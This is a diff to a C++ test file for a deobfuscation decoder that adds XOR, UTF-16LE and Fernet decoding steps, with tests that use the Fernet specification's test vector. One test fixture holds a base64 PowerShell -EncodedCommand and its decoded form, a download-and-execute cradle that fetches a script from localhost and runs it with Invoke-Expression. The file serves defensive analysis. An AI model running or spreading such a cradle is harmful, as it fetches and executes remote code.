@@ -446,6 +446,61 @@ TEST(Decode, step_names_are_those_a_fact_says) {
   EXPECT_EQ(step_name(Step::kReversed), "reversed");
   EXPECT_EQ(step_name(Step::kSubstitution), "substitution table");
   EXPECT_EQ(step_name(Step::kCharCodes), "character codes");
+  EXPECT_EQ(step_name(Step::kXor), "xor");
+  EXPECT_EQ(step_name(Step::kUtf16), "utf-16le");
+  EXPECT_EQ(step_name(Step::kFernet), "fernet");
+}
+
+// --- UTF-16LE (PowerShell's -EncodedCommand) ---------------------------------------------
+
+TEST(Decode, utf16le_ascii_narrows_text_whose_high_bytes_are_zero_and_refuses_anything_else) {
+  using namespace std::string_literals;
+  EXPECT_EQ(utf16le_ascii("I\0E\0X\0 \0$\0c\0m\0d\0"s), "IEX $cmd");
+  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0 \0$\0c\0m\0"s));       // 7 characters: too short
+  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0 \0$\0c\0m\0d\0x"s));   // an odd length
+  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0 \x04$\0c\0m\0d\0"s));  // a character past ASCII
+  EXPECT_FALSE(utf16le_ascii("I\0E\0X\0\0\0$\0c\0m\0d\0"s));   // a NUL character
+  EXPECT_FALSE(utf16le_ascii("plain ASCII text, not UTF-16"));
+}
+
+TEST(Decode, a_powershell_encoded_command_decodes_through_base64_and_utf16le_to_the_script) {
+  // (New-Object Net.WebClient).DownloadString(…) handed to Invoke-Expression, as
+  // `powershell -EncodedCommand` reads it: base64 of UTF-16LE.
+  const std::string encoded =
+      "JABjACAAPQAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQA"
+      "cgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADIANwAuADAALgAwAC4AMQAvAHAALgBwAHMAMQAnACkAOwAgAEkAbgB2AG8AawBlAC0ARQB4AHAA"
+      "cgBlAHMAcwBpAG8AbgAgACQAYwA=";
+  Budget budget;
+  const auto ds = decode_all(encoded, step_bit(Step::kBase64) | step_bit(Step::kUtf16), Tables{}, budget);
+  ASSERT_EQ(ds.size(), 1u);
+  EXPECT_EQ(ds[0].text,
+            "$c = (New-Object Net.WebClient).DownloadString('http://127.0.0.1/p.ps1'); Invoke-Expression $c");
+  EXPECT_EQ(ds[0].chain, (std::vector<Step>{Step::kBase64, Step::kUtf16}));
+  EXPECT_TRUE(looks_like_code(ds[0].text));
+  // Without the step, the UTF-16 bytes are no text: nothing.
+  Budget again;
+  EXPECT_TRUE(decode_all(encoded, step_bit(Step::kBase64), Tables{}, again).empty());
+}
+
+// --- Fernet -----------------------------------------------------------------------------
+
+// The Fernet specification's own vector (github.com/fernet/spec, generate.json).
+constexpr std::string_view kSpecKey = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";
+constexpr std::string_view kSpecToken =
+    "gAAAAAAdwJ6wAAECAwQFBgcICQoLDA0ODy021cpGVWKZ_eEwCGM4BLLF_5CV9dOPmrhuVUPgJobwOz7JcbmrR64jVmpU4IwqDA==";
+
+TEST(Decode, a_fernet_token_decrypts_with_its_key_as_the_specification_says) {
+  EXPECT_EQ(fernet_decrypt(kSpecToken, kSpecKey), "hello");
+}
+
+TEST(Decode, a_fernet_token_with_another_key_or_a_changed_byte_is_not_decrypted) {
+  EXPECT_FALSE(fernet_decrypt(kSpecToken, "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="));
+  std::string changed(kSpecToken);
+  changed[40] = changed[40] == 'A' ? 'B' : 'A';  // in the ciphertext: the HMAC no longer holds
+  EXPECT_FALSE(fernet_decrypt(changed, kSpecKey));
+  EXPECT_FALSE(fernet_decrypt(kSpecToken.substr(0, 60), kSpecKey));  // cut short
+  EXPECT_FALSE(fernet_decrypt("not a token at all", kSpecKey));
+  EXPECT_FALSE(fernet_decrypt(kSpecToken, "c2hvcnQga2V5"));  // a key that is not 32 bytes
 }
 
 }  // namespace
